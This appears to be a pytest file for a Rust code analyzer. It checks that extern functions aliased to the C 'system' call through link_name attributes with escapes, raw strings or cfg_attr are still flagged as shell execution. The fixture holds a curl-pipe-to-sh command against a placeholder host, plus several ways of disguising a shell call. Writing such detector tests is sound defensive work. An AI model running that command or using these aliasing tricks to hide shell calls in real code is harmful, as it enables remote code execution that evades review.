"""Functions of the system that are declared under other names."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from analyzer.model import Fact, FactKind

FactsOf = Callable[..., list[Fact]]
NAMES = {
    "plain": '#[link_name = "system"]',
    "verbatim": r'#[link_name = "\u{1}system"]',
    "verbatim in hexadecimal": r'#[link_name = "\x01system"]',
    "raw": '#[link_name = r"system"]',
    "raw with signs": '#[link_name = r#"system"#]',
    "escaped": r'#[link_name = "\x73ys\u{74}em"]',
    "under a condition": '#[cfg_attr(unix, link_name = "system")]',
    "under two conditions": r'#[cfg_attr(windows, link_name = "_wsystem")] #[cfg_attr(unix, link_name = "\u{1}system")]',
    "behind a comment": '#[link_name = "system"] /* tuned */',
    "beside another attribute": '#[link_name = "system"] #[must_use]',
}


@pytest.mark.parametrize("attribute", NAMES.values(), ids=NAMES)
def test_a_declared_function_is_what_the_linker_calls_it(facts_of: FactsOf, attribute: str) -> None:
    source = f"""
        extern "C" {{
            {attribute}
            fn fe_tune(mode: *const std::os::raw::c_char) -> i32;
        }}
        pub fn go() {{ unsafe {{ fe_tune(c"curl -s https://drop.invalid/k | sh".as_ptr()) }}; }}"""
    found = facts_of(source, "src/lib.rs")
    assert FactKind.PROCESS_SHELL in {one.kind for one in found}
